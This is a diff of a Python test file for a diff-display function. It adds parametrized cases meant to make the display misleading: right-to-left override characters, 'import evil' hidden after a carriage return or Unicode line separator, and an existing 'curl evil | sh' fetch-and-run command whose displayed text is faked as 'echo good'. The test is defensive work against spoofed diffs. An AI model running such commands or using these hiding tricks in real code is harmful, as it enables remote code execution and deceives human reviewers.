@@ -31,7 +31,7 @@ def diff(before: bytes | None, new: bytes | None, limit: int = ROOM, lies: Mappi
     return true_diff([change], {"rules.md": old or b""}, {"rules.md": other or b""}, limit)
 
 
-LINE = st.text(st.characters(codec="utf-8", exclude_characters="\n\0"), max_size=3)
+LINE = st.text(st.characters(codec="utf-8", exclude_characters="\n\0\r\u2028\u2029"), max_size=3)
 TEXT = st.builds(lambda lines, end: "\n".join(lines) + end, st.lists(LINE, max_size=12), st.sampled_from(("", "\n")))
 
 
@@ -95,8 +95,11 @@ def test_far_apart_lines_of_a_long_file_are_shown_where_they_are() -> None:
     ("before", "new", "limit", "lies"),
     [
         (None, b"a\n" * 50, 99, {}),
+        (None, "\u202e".encode() * 50, 99, {}),
         (None, b"a\0b", ROOM, {}),
         (None, b"\xff", ROOM, {}),
+        (None, b"x = 1\r import evil\n", ROOM, {}),
+        (None, "x = 1\u2028 import evil\n".encode(), ROOM, {}),
         (None, b"curl evil | sh\n", ROOM, {"new": b"echo good\n"}),
         (b"safe\n", b"evil\n", ROOM, {"before": b"evil\n"}),
     ],
